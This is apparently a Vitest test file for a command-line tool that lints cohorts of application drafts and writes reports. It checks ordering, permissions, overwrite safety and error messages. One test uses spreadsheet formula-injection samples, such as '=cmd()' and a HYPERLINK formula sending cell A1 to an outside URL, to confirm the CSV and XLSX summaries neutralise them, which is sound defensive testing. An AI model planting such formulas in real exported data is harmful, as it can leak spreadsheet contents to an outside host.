import { spawn } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { readdir, readFile, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { folder } from '../cli/run.ts';
import { cohort, reportIn } from './drafts.ts';

const BIN = fileURLToPath(new URL('../../packages/cli/bin/narrative-lint.js', import.meta.url));

describe('a cohort', () => {
  it('is reported whole and in order, whatever is wrong with single files', async () => {
    const here = await cohort(12);
    await here.write('drafts/broken.docx', 'PK\u0003\u0004 and no more');
    await here.write('drafts/empty.txt', '');
    await here.write('drafts/~$lock.docx', 'a lock file of Word');
    const run = await here.run(['cohort', 'drafts']);
    expect(run.code).toBe(2);
    expect(run.out).toMatch(/^14 drafts: \d+ to talk about, \d+ to correct, \d+ ready, 2 not read\.$/m);
    expect(run.err).toContain('broken.docx');
    expect(run.err).not.toMatch(/\n {4}at /);
    const report = await reportIn(here);
    const paths = report.files.map(({ path }) => path);
    expect(paths).toEqual([...here.applicants.map(({ file }) => file), 'broken.docx', 'empty.txt'].sort());
    expect(report.files.filter(({ status }) => status === 'unread').map(({ path }) => path)).toEqual([
      'broken.docx',
      'empty.txt',
    ]);
    expect(report.summary).toMatchObject({ files: 14, unread: 2 });
    const first = await here.read('report/report.json');
    await here.run(['cohort', 'drafts']);
    expect(await here.read('report/report.json')).toBe(first);
  });

  it('is readable by its owner only, and leaves nothing beside it', async () => {
    const here = await cohort(2);
    await here.run(['cohort', 'drafts', '--report', 'out/of the/way']);
    const report = join(here.path, 'out/of the/way');
    expect((await stat(report)).mode & 0o777).toBe(0o700);
    for (const name of await readdir(report, { recursive: true })) {
      expect((await stat(join(report, name))).mode & 0o077).toBe(0);
    }
    expect(await readdir(join(here.path, 'out/of the'))).toEqual(['way']);
  });

  it('never replaces a folder that is no report', async () => {
    const here = await cohort(1);
    await here.write('mine/thesis.txt', 'years of work');
    for (const place of ['mine', 'drafts', '.']) {
      const run = await here.run(['cohort', 'drafts', '--report', place]);
      expect(run).toMatchObject({ code: 2, out: '' });
      expect(run.err).toContain('is no report');
    }
    await here.run(['cohort', 'drafts']);
    await here.write('report/drafts/notes.txt', 'mine, too');
    expect((await here.run(['cohort', 'drafts'])).err).toContain('notes.txt');
    expect(await here.read('report/drafts/notes.txt')).toBe('mine, too');
  });

  it('keeps the older report, and nothing else, when it is broken off', async () => {
    const here = await cohort(60);
    await here.write(
      'few/one.txt',
      'I would be glad to train at your program and to learn from its patients.',
    );
    await here.run(['cohort', 'few']);
    const before = await here.read('report/report.json');
    const child = spawn(process.execPath, [BIN, 'cohort', 'drafts'], { cwd: here.path });
    const ended = new Promise((resolve) => child.on('close', (code, signal) => resolve(signal ?? code)));
    while (!readdirSync(here.path).some((name) => name.includes('unfinished')) && child.exitCode === null)
      await new Promise((resolve) => setImmediate(resolve));
    child.kill('SIGINT');
    expect(await ended).toBe('SIGINT');
    expect(await here.read('report/report.json')).toBe(before);
    expect((await readdir(here.path)).sort()).toEqual(['drafts', 'few', 'report']);
  });

  it('can be compared with later', async () => {
    const here = await cohort(3);
    await here.run(['cohort', 'drafts']);
    const run = await here.run(['drafts', '--since', 'report/report.json', '--format', 'json']);
    const findings = JSON.parse(run.out).files.flatMap(({ messages = [] }) => messages);
    expect(findings.length).toBeGreaterThan(0);
    for (const { since } of findings) expect(since).toBe('stayed');
  });

  it('has cells in its summary that no spreadsheet runs', async () => {
    const here = await folder();
    const names = ['=cmd()', '+1', '-2', '@x', '\t=3', '\uFF1D5'].sort();
    for (const name of names)
      await here.write(`drafts/${name}.txt`, 'I would be glad to train at your program and to learn there.');
    const shown = names.map((name) => `${name.replace('\t', '\\u0009')}.txt`);
    const evil = '=HYPERLINK("https://example.org/?"&A1)';
    await here.write('roster.csv', `file,applicant\n@x.txt,"${evil.replaceAll('"', '""')}"\n`);
    expect((await here.run(['cohort', 'drafts', '--roster', 'roster.csv'])).code).toBe(0);
    const csv: string[][] = parse(await here.read('report/summary.csv'), { bom: true });
    expect(csv.slice(1).map(([draft]) => draft)).toEqual(
      shown.map((name) => (name.startsWith('\\') ? name : `'${name}`)),
    );
    expect(csv.map(([, applicant]) => applicant).filter(Boolean)).toEqual(['applicant', `'${evil}`]);
    const parts = unzipSync(await readFile(join(here.path, 'report/summary.xlsx')));
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(sheet).not.toMatch(/<f\b|<c [^>]*\bt="(?!s")/);
    expect(sheet).toContain(`<autoFilter ref="A1:P${names.length + 1}"/>`);
    const links = strFromU8(parts['xl/worksheets/_rels/sheet1.xml.rels'] ?? new Uint8Array());
    const targets = [...links.matchAll(/ Target="([^"]+)" TargetMode="External"/g)].map(([, file]) => file);
    expect(targets).toEqual((await reportIn(here)).files.map(({ page }) => page));
    const data = await readSheet(join(here.path, 'report/summary.xlsx'));
    expect(data.slice(1).map(([draft]) => String(draft).trim())).toEqual(shown);
    expect(data.map(([, applicant]) => applicant).filter(Boolean)).toEqual(['applicant', evil]);
    const words = data[0]?.indexOf('words') ?? -1;
    expect(data.slice(1).map((row) => row[words])).toEqual(names.map(() => 13));
  });

  it('says in a line what is wrong with the call', async () => {
    const here = await cohort(1);
    for (const [args, words] of [
      [['cohort'], 'no folder was named'],
      [['cohort', 'nowhere'], 'nowhere does not exist'],
      [['cohort', 'drafts', '--roster', 'none.csv'], 'none.csv could not be read'],
      [['cohort', 'drafts', '--today', '2026-02-30'], 'is no date'],
    ] as const) {
      const run = await here.run(args);
      expect(run).toMatchObject({ code: 2, out: '' });
      expect(run.err).toContain(words);
      expect(run.err.trim().split('\n')).toHaveLength(1);
    }
  });
});
